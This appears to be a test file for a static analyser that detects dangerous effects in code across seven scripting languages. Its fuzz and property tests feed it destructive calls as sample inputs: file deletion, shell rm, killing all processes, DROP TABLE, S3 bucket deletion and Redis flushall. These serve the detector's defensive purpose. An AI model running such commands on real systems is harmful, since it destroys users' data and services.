  expect(effectsOfCode("python", `x = 'ab'\n${"x = x + x\n".repeat(100)}os.remove(x)`)).toEqual([gone()]);
  expect(effectsOfCode("python", "os.system('rm ' * 10 ** 9)")).toEqual([ran()]);
});

const dangerous: Readonly<Record<Language, string>> = {
  python: "os.remove('x')",
  javascript: "fs.rmSync('x')",
  perl: "unlink 'x';",
  ruby: "File.delete('x')",
  php: "unlink('x');",
  awk: 'system("x")',
  lua: "os.remove('x')",
};
const comments: Readonly<Record<Language, string>> = {
  python: "#",
  javascript: "//",
  perl: "#",
  ruby: "#",
  php: "//",
  awk: "#",
  lua: "--",
};

describe("properties", () => {
  const pieces = fc.oneof(
    fc.string({ unit: "grapheme", maxLength: 12 }),
    fc.constantFrom(
      ..."( ) [ ] { } ' \" ` ''' \"\"\" ${ #{ @{[ <<A <<~A \\ / // /* # = += => -> :: . ?. , ; : ? * ** % %w[ q{ s/ < > | & \n A \nA\n".split(
        " ",
      ),
      " ",
      "\n",
      ...Object.values(dangerous),
      ..."for in if else import from lambda def function const let eval exec my foreach do end print getline".split(
        " ",
      ),
    ),
  );
  const programText = fc.array(pieces, { maxLength: 40 }).map((parts) => parts.join(""));

  test("never throws on any text", () => {
    fc.assert(
      fc.property(fc.constantFrom(...languages), programText, (language, code) => {
        expect(Array.isArray(effectsOfCode(language, code))).toBe(true);
      }),
      { numRuns: 3000 },
    );
  });

  test("never throws on any beginning of a program", () => {
    for (const language of languages) {
      for (const [code] of programs[language])
        for (let end = 0; end < code.length; end++) effectsOfCode(language, code.slice(0, end));
    }
  });

  test("a call in a string or a comment does nothing", () => {
    const words = fc.stringMatching(/^[a-z ]{0,12}$/);
    fc.assert(
      fc.property(fc.constantFrom(...languages), words, words, (language, before, after) => {
        const call = dangerous[language];
        const inText = JSON.stringify(`${before}${call}${after}`);
        expect(effectsOfCode(language, `${comments[language]} ${before}${call}${after}`)).toEqual([]);
        expect(
          effectsOfCode(language, language === "awk" ? `BEGIN { x = ${inText} }` : `zz = ${inText}`),
        ).toEqual([]);
      }),
    );
  });

  test("a call outside of them is always seen", () => {
    const words = fc.stringMatching(/^[a-z ]{0,12}$/);
    fc.assert(
      fc.property(fc.constantFrom(...languages), words, (language, before) => {
        const code = `${comments[language]} ${before}\n${dangerous[language]}`;
        expect(effectsOfCode(language, code)).toHaveLength(1);
      }),
    );
  });
});

test.each(languages)(
  "time grows with the length and not faster: %s",
  (language) => {
    const seeds = [
      ...'( { a( a. \' ` `${ "#{ f"{ "@{[ \\ /[ <<A\n <a %w[ s/a/ $ "$x a: a? a[ $a{'.split(" "),
      "x=x+x\n",
      "[[x for x in ",
      "import a ",
      "let a: b<",
      "(x)=>",
      "x.each{|y|",
      "print a > ",
      "x\n.y",
      "eval('x');",
      `${dangerous[language]}\n`,
      "'{}'.format(",
      "x[::-1];",
    ];
    const work = (code: string): void => void effectsOfCode(language, code);
    for (const seed of seeds)
      expect({ seed, slow: growsTooFast(work, repeated(seed), 15) }).toEqual({ seed, slow: false });
  },
  60_000,
);

describe("calls that go to a service are handed on by name", () => {
  const calls = (language: Language, code: string) =>
    effectsOfCode(language, code).flatMap((effect) =>
      effect.do === "call" ? [[effect.name, ...effect.texts].join(" ")] : [],
    );
  const cases: [Language, string, string[]][] = [
    [
      "python",
      "import boto3\nboto3.client('s3').delete_bucket(Bucket='b')",
      ["boto3.client.delete_bucket b"],
    ],
    [
      "python",
      "from boto3 import resource as r\nfor x in r('s3').buckets.all(): x.delete()",
      ["boto3.resource.buckets.all", "boto3.resource.buckets.all.delete"],
    ],
    [
      "python",
      "c = psycopg2.connect('d').cursor(); c.execute('DROP ' + 'TABLE x')",
      ["psycopg2.connect d", "psycopg2.connect.cursor.execute DROP TABLE x"],
    ],
    ["python", "os.kill(-1, 9)", ["os.kill -1 9"]],
    [
      "javascript",
      "const { DeleteBucketCommand: D } = require('@aws-sdk/client-s3'); new D({ Bucket: 'b' })",
      ["@aws-sdk/client-s3.DeleteBucketCommand b"],
    ],
    ["javascript", "fetch('http://a/b', { method: 'DELETE' })", ["fetch http://a/b DELETE"]],
    ["ruby", "Redis.new.flushall", ["Redis.new.flushall"]],
    ["ruby", "Process.kill 9, -1", ["Process.kill 9 -1"]],
    ["perl", "kill 9, -1", ["kill 9 -1"]],
    [
      "perl",
      "DBI->connect('d')->do('DROP TABLE x')",
      ["DBI.connect d", "DBI.connect", "DBI.connect.do DROP TABLE x", "DBI.connect.do"],
    ],
    ["php", "(new PDO('d'))->exec('DROP TABLE x');", ["pdo.exec DROP TABLE x"]],
    ["python", "print('DROP TABLE x'); d = {}; d.pop('a')", []],
    ["javascript", "db.exec('select 1'); /a/.exec('b')", []],
  ];
  for (const [language, code, expected] of cases)
    test(`${language}: ${code}`, () => expect(calls(language, code)).toEqual(expected));
});
